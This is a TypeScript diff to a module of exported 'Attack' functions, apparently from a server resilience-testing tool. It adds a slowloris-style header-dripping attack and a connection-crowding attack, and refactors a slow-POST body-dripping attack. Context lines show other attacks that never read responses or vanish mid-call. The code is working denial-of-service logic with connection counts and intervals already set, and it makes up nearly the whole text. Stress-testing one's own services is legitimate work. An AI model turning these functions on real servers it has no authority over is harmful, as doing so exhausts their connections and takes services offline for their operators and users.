@@ -28,7 +28,7 @@ const localAddress = (n: number): string | undefined =>
 
 type Opened = { socket: Socket; open: boolean; closed: Promise<void> }
 
-/** Opens connection number `n` and waits until it stands, or cannot. */
+/** Opens a connection from the n-th address and waits until it stands, or cannot. */
 async function opened({ host, port }: Target, n: number): Promise<Opened> {
   const address = localAddress(n)
   const socket = connect({ host, port, ...(address && { localAddress: address }) })
@@ -50,13 +50,14 @@ async function keepBusy(
   signal: AbortSignal,
   connections: number,
   use: (opened: Opened, end: Promise<void>) => Promise<void>,
+  addressOf: (n: number) => number = (n) => n,
 ): Promise<number> {
   let count = 0
   const end = aborted(signal)
   const again = async () => {
     while (!signal.aborted) {
       count += 1
-      const connection = await opened(target, count)
+      const connection = await opened(target, addressOf(count))
       if (connection.open) await use(connection, end)
       else await wait(50)
       connection.socket.resetAndDestroy()
@@ -80,17 +81,27 @@ export function vanishing(calls: readonly RawCall[], { abusers = 8, pause = 0 } 
     })
 }
 
-/** Announces a long body on each connection and sends a byte of it now and then. */
-export function dripping(path: string, { connections = 70, every = 100 } = {}): Attack {
-  const head = rawPost(path, '').replace(/Content-Length: \d+/, 'Content-Length: 200000')
+/** Sends these bytes on each connection and then a piece now and then, and reads what comes. */
+function drip(start: string, piece: () => string, connections: number, every: number): Attack {
   return (target, signal) =>
     keepBusy(target, signal, connections, async ({ socket, closed }, end) => {
-      const dripped = setInterval(() => socket.write(' '), every)
-      socket.write(head)
+      const dripped = setInterval(() => socket.write(piece()), every)
+      socket.write(start)
       socket.resume()
       await Promise.race([closed, end])
       clearInterval(dripped)
     })
+}
+
+/** Announces a long body on each connection and sends a byte of it now and then. */
+export function drippingBodies(path: string, { connections = 70, every = 100 } = {}): Attack {
+  const head = rawPost(path, '').replace(/Content-Length: \d+\r\n\r\n.*/, 'Content-Length: 200000\r\n\r\n')
+  return drip(head, () => ' ', connections, every)
+}
+
+/** Begins a call on each connection and sends a header of it now and then, never the last one. */
+export function drippingHeads(path: string, { connections = 70, every = 100 } = {}): Attack {
+  return drip(`GET ${path} HTTP/1.1\r\nHost: x\r\n`, () => 'X: x\r\n', connections, every)
 }
 
 /** Asks as much as each connection takes, without waiting for an answer, and reads none. */
@@ -105,4 +116,19 @@ export function neverReading(call: RawCall, { connections = 60, atOnce = 20 } = 
       await Promise.race([closed, end])
       clearInterval(asked)
     })
+}
+
+/** Opens connections from one address as fast as it can, and keeps what it gets without a word. */
+export function crowding({ connections = 500 } = {}): Attack {
+  return (target, signal) =>
+    keepBusy(
+      target,
+      signal,
+      connections,
+      async ({ closed }, end) => {
+        await Promise.race([closed, end])
+        await Promise.race([wait(100), end])
+      },
+      () => 0,
+    )
 }
